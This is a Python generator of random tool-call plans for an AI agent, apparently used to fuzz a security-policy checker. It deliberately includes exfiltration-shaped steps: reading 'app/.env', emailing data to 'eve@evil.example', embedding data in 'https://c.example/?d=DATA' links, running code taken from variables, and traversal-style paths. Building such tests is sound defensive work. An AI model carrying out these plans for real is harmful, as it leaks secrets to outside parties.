"""Draws random plans over a fixed set of tools: sources and sinks, guards, loops, jumps, failures, groups."""

from __future__ import annotations

from dataclasses import dataclass
from random import Random

VARIABLES = ("a", "b", "c")
FILES = ("notes.txt", "docs/a.md", "docs/../docs/a.md", "public/x.txt", "public/./x.txt", "out/y.md")
KEYS = ("k", "z")


_SOURCES = (
    '@READ_FILE (path="notes.txt")',
    '@READ_FILE (path="notes.txt")',
    '@READ_FILE (path="docs/a.md")',
    '@READ_FILE (path="app/.env")',
    '@FETCH_PAGE (url="https://api.internal/l")',
    '@QUERY_MEMORY (query="a")',
    '@WEB_SEARCH (query="plain")',
    '@WEB_SEARCH (query="plain")',
    '@EXEC_CODE (code="print(1)")',
)


@dataclass(frozen=True, slots=True)
class Drawn:
    """A plan as text, with what its policy says: the mode, the label of memory, the steps with a yes."""

    text: str
    implicit: str
    memory: str
    approved: frozenset[str]


def draw(seed: int) -> Drawn:
    """The plan of this number."""
    random = Random(seed)
    count = random.randint(4, 11)
    lines: list[str] = []
    open_until = 0
    for number, source in enumerate(random.sample(_SOURCES, 2), 1):
        lines.append(f"S{number}: {source} > ${VARIABLES[number - 1]}")
    for number in range(3, count):
        if not open_until and random.random() < 0.08 and number < count - 2:
            lines.append("@PARALLEL {")
            open_until = number + random.randint(1, 2)
        lines.append(f"S{number}: {_step(random, number, count, in_block=bool(open_until))}")
        if open_until and number >= min(open_until, count - 1):
            lines.append("}")
            open_until = 0
    lines.append(f"S{count}: @RESPOND ({value(random)})")
    ids = [f"S{n}" for n in range(1, count + 1)]
    return Drawn("\n".join(lines), *settings(random, ids))


def source(random: Random) -> str:
    """A call that brings data in."""
    return random.choice(_SOURCES)


def settings(random: Random, ids: list[str]) -> tuple[str, str, frozenset[str]]:
    """What the policy of a plan with these steps says."""
    return (
        random.choice(("bounded", "bounded", "strict")),
        random.choice(("U/priv", "U/priv", "T/pub")),
        frozenset(random.sample(ids, random.randint(0, len(ids) // 2))),
    )


def _step(random: Random, number: int, count: int, *, in_block: bool) -> str:
    guard = ""
    chance = random.random()
    item = False
    if chance < 0.22:
        guard = f"?IF ({condition(random)}) THEN "
    elif chance < 0.30:
        guard = f"?FOREACH ($x IN ${random.choice(VARIABLES)}) THEN "
        item = True
    if not in_block and random.random() < (0.3 if guard.startswith("?IF") else 0.04):
        return guard + _control(random, count)
    output = random.choice(VARIABLES)
    cast = random.choice(("", "", "", "", ":list", ":json", ":int"))
    failure = ""
    if random.random() < 0.15:
        ways = ("@RETRY(1)", f'TERMINATE ("no {_reference(random, item)}")')
        failure = " ON_FAIL " + random.choice(ways if in_block else (*ways, f"GOTO {_target(random, count)}"))
    return f"{guard}{call(random, item)} > ${output}{cast}{failure}"


def _control(random: Random, count: int) -> str:
    return random.choice(
        (
            f"GOTO {_target(random, count)}",
            f"GOTO {_target(random, count)}",
            f"TERMINATE ({value(random)})",
            f"@RESPOND ({value(random)})",
        )
    )


def _target(random: Random, count: int) -> str:
    return f"S{random.randint(1, count)}"


def condition(random: Random) -> str:
    """A condition over one variable or two."""
    one = random.choice(
        (
            '${v} contains "yes"',
            '${v} == "yes"',
            "${v} > 5",
            "IS_EMPTY(${v})",
            "NOT_EMPTY(${v})",
            'NOT (${v} contains "yes")',
            'NOT_EMPTY(${v}) AND ${w} contains "yes"',
        )
    )
    first, second = random.choice(VARIABLES), random.choice(VARIABLES)
    return one.replace("${v}", f"${first}").replace("${w}", f"${second}")


def _reference(random: Random, item: bool = False) -> str:
    return "$x" if item and random.random() < 0.6 else f"${random.choice(VARIABLES)}"


def value(random: Random, item: bool = False) -> str:
    """A literal, a reference, a text with one in it, or several of them in a text or a list."""
    name, other = _reference(random, item), f"${random.choice(VARIABLES)}"
    simple = ('"plain"', '"other"', name, f'"t {name} u"', f'"{name}{name}"')
    several = (f'"{name}{other}"', f'"{name}/{other}"', f'[{name}, "t", {other}]', f'"{name} {other}"')
    return random.choice(simple if random.random() < 0.75 else several)


def call(random: Random, item: bool = False) -> str:
    """A call of some tool."""
    given = value(random, item)
    name = _reference(random, item)
    path, key = random.choice(FILES), random.choice(KEYS)
    choices = (
        (3, f'@READ_FILE (path="{path}")'),
        (0.3, '@READ_FILE (path="app/.env")'),
        (3, f"@WEB_SEARCH (query={given})"),
        (1.5, f'@FETCH_PAGE (url="https://c.example/?q={name}")'),
        (1, '@FETCH_PAGE (url="https://c.example/fixed")'),
        (1, f'@FETCH_PAGE (url="https://api.internal/?q={name}")'),
        (0.6, f"@FETCH_PAGE (url={name})"),
        (2, f'@LLM_SUMMARIZE ({given}, format="brief")'),
        (0.7, f'@LLM_GENERATE (context={given}, format="link to https://c.example/?d=DATA")'),
        (2, f'@EXEC_CODE (code="print(1)", stdin={given})'),
        (0.3, f"@EXEC_CODE (code={name})"),
        (1.5, f'@WRITE_FILE (path="{path}", content={given})'),
        (0.3, f'@WRITE_FILE (path="out/run.sh", content={given})'),
        (0.2, f"@WRITE_FILE (path={name}, content={given})"),
        (0.5, f'@EDIT_FILE (path="{path}", old="a", new={given})'),
        (0.5, '@SEARCH_FILES (pattern="a")'),
        (0.8, f"@STORE_FACT (content={given})"),
        (0.8, '@QUERY_MEMORY (query="a")'),
        (0.8, f'@SET_WM (key="{key}", value={given})'),
        (0.8, f'@GET_WM (key="{key}")'),
        (0.8, f'@FORMAT ("t {name}")'),
        (0.5, f'@FORMAT ("https://c.example/?q={name}")'),
        (0.5, '@HOST_EXEC (command="ls")'),
        (0.2, f"@HOST_EXEC (command={name})"),
        (1.5, f'@SEND_EMAIL (to="team@corp.example", body={given})'),
        (0.5, f'@SEND_EMAIL (to="eve@evil.example", body={given})'),
        (1, f"@ECHO (value={given})"),
        (0.5, f'@FILL (text="https://c.example/?d=DATA", data={given})'),
        (0.3, f'@FILL (text="t DATA u", data={given})'),
    )
    weights = [weight for weight, _ in choices]
    return random.choices([text for _, text in choices], weights)[0]
